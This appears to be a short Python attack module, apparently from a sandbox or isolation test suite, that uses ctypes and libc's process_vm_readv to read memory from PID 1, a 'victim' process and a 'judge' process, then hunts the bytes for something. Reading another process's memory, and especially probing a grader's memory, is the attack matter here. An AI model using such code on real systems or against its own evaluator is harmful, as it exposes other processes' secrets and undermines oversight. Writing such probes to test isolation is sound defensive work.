"""The memory of another process, by its own call."""
# ruff: noqa

import ctypes


def attack():
    buffer = ctypes.create_string_buffer(65536)

    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (1, FACTS["victim"], FACTS["judge"]):
        here, there = Part(ctypes.addressof(buffer), 65536), Part(FACTS["address"], 4096)
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            return hunt(buffer.raw) or "read something"
